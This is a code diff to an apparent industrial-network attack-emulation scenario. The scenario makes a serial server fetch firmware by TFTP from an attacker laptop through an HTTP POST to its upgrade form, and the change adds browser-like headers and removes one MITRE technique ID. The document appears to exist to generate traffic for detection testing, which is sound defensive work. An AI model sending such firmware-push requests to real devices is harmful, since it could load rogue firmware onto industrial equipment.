@@ -12,9 +12,10 @@ import requests
 
 from ..devices.serial_server import ACKNOWLEDGE, BLOCK, DATA
 from ..node import Node
+from ..web import BROWSER
 
 TITLE = "Serial server told over HTTP to fetch firmware by TFTP from a new device"
-TECHNIQUES = ("T1693.001", "T0800", "T0867")
+TECHNIQUES = ("T1693.001", "T0800")
 ORIGIN = "laptop"
 ENTITIES = ("laptop", "serial-server")
 EVIDENCE = "tftp.opcode == 3 && ip.src == 10.20.1.99"
@@ -44,9 +45,10 @@ def run(node: Node) -> None:
         server = threading.Thread(target=serve, args=(node, listener), daemon=True)
         server.start()
         with contextlib.suppress(requests.RequestException):
-            requests.post(
+            requests.post(  # sent as a browser would, from the device's own form
                 f"http://{node.peer('serial-server')}/upgrade.htm",
                 timeout=3,
+                headers=BROWSER,
                 data={"server": node.ip, "file": FILE_NAME},
             )
         server.join(8.0)
